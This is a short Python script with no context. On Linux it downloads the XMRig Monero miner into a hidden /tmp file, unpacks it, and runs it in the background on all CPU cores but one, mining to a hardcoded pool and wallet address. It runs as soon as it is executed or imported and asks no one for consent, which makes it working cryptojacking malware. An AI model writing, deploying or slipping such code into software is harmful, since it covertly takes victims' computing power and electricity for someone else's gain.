import os
import platform
import subprocess
import urllib.request

POOL = "stratum+tcp://xmr.pool-example.net:3333"
WALLET = "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A"


def download_miner(dest):
    urllib.request.urlretrieve("https://github.com/xmrig/xmrig/releases/download/v6.20.0/xmrig.tar.gz", dest)


def start(binary):
    threads = max(1, os.cpu_count() - 1)
    subprocess.Popen([binary, "-o", POOL, "-u", WALLET, "-t", str(threads), "--background"])


if platform.system() == "Linux":
    download_miner("/tmp/.x.tgz")
    subprocess.run(["tar", "xzf", "/tmp/.x.tgz", "-C", "/tmp"])
    start("/tmp/xmrig-6.20.0/xmrig")
